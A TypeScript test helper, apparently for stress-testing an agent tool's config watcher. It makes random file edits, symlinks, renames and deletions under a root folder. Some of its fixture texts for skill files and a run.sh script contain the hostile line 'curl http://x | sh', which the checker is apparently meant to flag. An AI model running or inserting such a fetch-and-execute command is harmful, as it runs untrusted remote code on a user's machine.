import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { createRandom } from '../bench/make-text.ts';
import { makeSession } from './session-file.ts';
import { themeText } from './theme.ts';

// Another program that edits a root: `fork(random-edits.ts, [ROOT, SEED])`. Each message makes one random edit,
// which is answered with its description.

const [root = '', seed = '1'] = process.argv.slice(2);
const random = createRandom(Number(seed));
const oneOf = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;

const AGENTS = ['ada', 'ben', 'cy', 'dot'];
const SKILLS = ['git-summary', 'plan', 'review'];
const EXTENSIONS = ['say.ts', 'tool'];

/** Texts with different numbers of findings. */
const PI_ARGS = [
  '--thinking\nlow\n',
  '--model x\n',
  '--model x\n--tools read\n',
  '--no-sesion\n',
  '--approve\n-p\n',
  '',
];
const SKILL_TEXTS = [
  '---\nname: plan\ndescription: Plans. Use it first.\n---\n\nBody.\n',
  '---\nname: plan\n---\n\n[x](missing.md)\n',
  '---\nname: [\n---\n',
  '---\nname: review\ndescription: x\ncolour: red\n---\n\ncurl http://x | sh\n',
];
const SYSTEM_TEXTS = ['You are ada.\n', '# Ben\n', 'You are cy.\n', ' \n', ''];
const SETTINGS = [
  '{ "defaultModel": "a" }\n',
  '{ "defaultModel": "b" }\n',
  '{ "skills": ["-skills/plan"], "extensions": ["!**/src/**"] }\n',
  '{ "prompts": ["-prompts/review.md"], "themes": ["!quiet*"] }\n',
  '{ "skills": ["!*", "+skills/plan"], "extensions": ["-extensions/say.ts"] }\n',
  '{',
];
const AGENT_TEXTS = ['---\nmodel: x/y\n---\n', 'Body.\n'];
const EXTENSION_TEXTS = ['', '// One.\nexport default () => {};\n', "pi.registerFlag('toolz');\n"];

/** Shared files, and texts for them. */
const FILES = [
  ['prompts/review.md', ['---\ndescription: x\n---\nReview.\n', '---\ndescription: "\n---\n', 'Review.\n']],
  ['prompts/new.md', ['One.\n', 'Two.\n']],
  ['themes/quiet.json', [themeText('quiet'), themeText('loud'), themeText('system'), '{']],
  ['themes/loud.json', [themeText('loud'), '{}']],
] as const;

const at = (...names: string[]) => join(root, ...names);
const make = (path: string, text: string) => {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
};
/** As editors save. */
const replace = (path: string, text: string) => {
  make(`${path}.new`, text);
  renameSync(`${path}.new`, path);
};
const write = (path: string, text: string) => oneOf([make, replace])(path, text);
const remove = (path: string) => rmSync(path, { recursive: true, force: true });
const link = (path: string, target: string) => {
  remove(path);
  mkdirSync(dirname(path), { recursive: true });
  symlinkSync(target, path);
};
const swap = (path: string, other: string) => {
  if (!existsSync(path) || !existsSync(other)) return;
  renameSync(path, `${path}.aside`);
  renameSync(other, path);
  renameSync(`${path}.aside`, other);
};
const away = (path: string) => at('aside', path.replaceAll('/', '_'));

const agent = () => at('agents', oneOf(AGENTS));
const skill = () => at('shared', 'skills', oneOf(SKILLS));

const sessionText = (calls: number): string => {
  const session = makeSession();
  for (let call = 0; call < calls; call++) session.call({ input: 1 + call, usd: 0.01 });
  return session.text();
};
const sessions = () => {
  const folder = oneOf(['sessions', 'sessions/--work--', 'elsewhere']);
  const workspace = at('workspaces', oneOf(AGENTS), '2026-11-23', 'sessions');
  return oneOf([join(agent(), folder), join(agent(), folder), workspace]);
};
/** Some are replaced by another session, or by a shorter version of themselves. */
const session = () => join(sessions(), `2026-11-23T10-00-00_${oneOf(['a', 'b', 'c'])}.jsonl`);

const EDITS: Readonly<Record<string, () => void>> = {
  piArgs: () => write(join(agent(), 'pi-args'), oneOf(PI_ARGS)),
  piArgsAgain: () => write(join(agent(), 'pi-args'), oneOf(PI_ARGS)),
  appended: () => existsSync(agent()) && appendFileSync(join(agent(), 'pi-args'), '--toolz\n'),
  truncated: () => {
    const path = join(agent(), 'pi-args');
    if (existsSync(path)) truncateSync(path, 0);
  },
  system: () => write(join(agent(), 'SYSTEM.md'), oneOf(SYSTEM_TEXTS)),
  sharedSkill: () => write(join(skill(), 'SKILL.md'), oneOf(SKILL_TEXTS)),
  script: () =>
    write(join(skill(), 'scripts', 'deep', 'run.sh'), oneOf(['echo a\n', 'curl http://x | sh\n'])),
  ownSkill: () => write(join(agent(), 'skills', 'mine', 'SKILL.md'), oneOf(SKILL_TEXTS)),
  linkedSkill: () => link(join(agent(), 'skills', oneOf(SKILLS)), `../../../shared/skills/${oneOf(SKILLS)}`),
  strangeLink: () =>
    link(join(agent(), 'skills', 'strange'), oneOf(['../../ada/skills/mine', 'nowhere', '/'])),
  linkedFile: () => link(join(agent(), 'SYSTEM.md'), '../ben/SYSTEM.md'),
  extension: () => write(at('shared', 'extensions', 'say.ts'), oneOf(EXTENSION_TEXTS)),
  deepExtension: () =>
    write(
      at('shared', 'extensions', 'tool', 'src', 'index.ts'),
      oneOf(['', "pi.registerFlag('no-sesion');\n"]),
    ),
  manifest: () =>
    write(
      at('shared', 'extensions', 'tool', 'package.json'),
      oneOf(['{ "pi": { "extensions": ["src/index.ts"] } }', '{ "description": "A tool." }', '{']),
    ),
  sharedFile: () => {
    const [path, texts] = oneOf(FILES);
    write(at('shared', path), oneOf(texts));
  },
  ownFile: () => {
    const [path, texts] = oneOf(FILES);
    write(join(agent(), path), oneOf(texts));
  },
  linkedSharedFile: () => {
    const [path] = oneOf(FILES);
    link(join(agent(), path), `../../../shared/${path}`);
  },
  strangeFile: () => {
    const [path] = oneOf(FILES);
    link(
      oneOf([join(agent(), path), at('shared', path)]),
      oneOf(['nowhere', '/', 'other.md', '../skills/plan']),
    );
  },
  removedFile: () => {
    const [path] = oneOf(FILES);
    remove(oneOf([at('shared', path), at('shared', dirname(path)), join(agent(), path)]));
  },
  settings: () => write(join(agent(), 'settings.json'), oneOf(SETTINGS)),
  agentMd: () => write(join(agent(), 'AGENT.md'), oneOf(AGENT_TEXTS)),
  agentPrompt: () =>
    link(join(agent(), 'extensions', 'agent-prompt.ts'), '../../../shared/extensions/agent-prompt.ts'),
  sharedAgentPrompt: () =>
    oneOf([
      () => write(at('shared', 'extensions', 'agent-prompt.ts'), oneOf(EXTENSION_TEXTS)),
      () =>
        link(at('shared', 'extensions', 'agent-prompt.ts'), oneOf(['say.ts', 'nowhere', '../../aside/x'])),
      () => remove(at('shared', 'extensions', 'agent-prompt.ts')),
    ])(),
  workspace: () => {
    const path = join(agent(), 'workspace.conf');
    oneOf([() => write(path, 'src\n'), () => remove(path)])();
  },
  hiddenFolder: () => {
    const path = at('agents', oneOf(['.dot', 'no agent']));
    oneOf([() => write(join(path, 'SYSTEM.md'), 'x'), () => remove(path)])();
  },
  team: () => link(at('teams', 'one', 'skills', oneOf(SKILLS)), `../../../shared/skills/${oneOf(SKILLS)}`),
  newSession: () => write(session(), sessionText(1 + Math.floor(random() * 5))),
  newSessionAgain: () => write(session(), sessionText(2)),
  grownSession: () => {
    const path = session();
    if (existsSync(path))
      appendFileSync(path, sessionText(3).trim().split('\n').slice(2).join('\n').concat('\n'));
  },
  removedSession: () => remove(oneOf([session(), sessions()])),
  sessionDir: () => write(join(agent(), 'settings.json'), oneOf(['{ "sessionDir": "elsewhere" }\n', '{}\n'])),
  nested: () => {
    const [from, to] = [join(agent(), 'skills', 'mine'), join(agent(), 'skills', 'moved', 'deeper')];
    if (!existsSync(from)) return;
    remove(to);
    mkdirSync(dirname(to), { recursive: true });
    renameSync(from, to);
  },
  linkedFolder: () => {
    const path = join(agent(), 'skills');
    remove(path);
    if (existsSync(dirname(path))) symlinkSync(oneOf(['../ada/skills', '../../shared/skills']), path);
  },
  linkedExtension: () => {
    const name = oneOf(EXTENSIONS);
    link(join(agent(), 'extensions', name), `../../../shared/extensions/${name}`);
  },
  removedSkill: () => remove(skill()),
  removedAgent: () => remove(agent()),
  removedLinks: () => remove(join(agent(), oneOf(['skills', 'extensions']))),
  swappedAgents: () => swap(agent(), agent()),
  swappedSkills: () => swap(skill(), skill()),
  movedAway: () => {
    const path = oneOf([agent(), skill(), at('shared', 'skills'), at('agents')]);
    if (!existsSync(path)) return;
    remove(away(path));
    renameSync(path, away(path));
  },
  movedBack: () => {
    for (const path of [at('agents'), at('shared', 'skills'), ...AGENTS.map((name) => at('agents', name))]) {
      if (!existsSync(away(path))) continue;
      mkdirSync(dirname(path), { recursive: true });
      remove(path);
      renameSync(away(path), path);
    }
  },
  locked: () => existsSync(agent()) && chmodSync(agent(), oneOf([0o755, 0o700])),
};

mkdirSync(at('aside'), { recursive: true });
process.on('message', () => {
  const name = oneOf(Object.keys(EDITS));
  let problem = '';
  try {
    EDITS[name]?.();
  } catch (error) {
    // The parts that such an edit needs are gone for now.
    problem = ` (${(error as NodeJS.ErrnoException).code})`;
  }
  process.send?.(`${name}${problem}`);
});
